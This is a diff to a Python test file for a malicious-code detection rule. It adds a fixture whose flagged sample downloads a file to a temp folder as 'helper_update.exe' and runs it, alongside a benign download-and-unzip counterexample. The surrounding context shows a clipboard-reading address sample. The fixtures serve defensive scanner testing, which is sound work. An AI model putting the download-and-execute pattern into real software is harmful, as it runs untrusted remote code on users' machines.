@@ -434,6 +434,19 @@ CASES: list[tuple[Rule, str, str, str]] = [
         "def recipient():\n    text = pyperclip.paste()\n"
         "    return text if ADDRESS.match(text) else None\n",
     ),
+    (
+        executes_code_at_remote_url_rule,
+        "fetch.py",
+        "import os, requests, tempfile\ns = requests.Session()\nr = s.get(URL, stream=True)\n"
+        "out = os.path.join(tempfile.gettempdir(), 'helper_update.exe')\n"
+        "with open(out, 'wb') as f:\n    for c in r.iter_content(32768):\n        f.write(c)\n"
+        "os.startfile(out)\n",
+        # a dataset streamed to disk, then a tool run on it: no executable is saved
+        "import subprocess, requests\nr = requests.get(URL, stream=True)\n"
+        "with open('data.zip', 'wb') as f:\n"
+        "    for c in r.iter_content(32768):\n        f.write(c)\n"
+        "subprocess.run(['unzip', 'data.zip'])\n",
+    ),
 ]
 
 
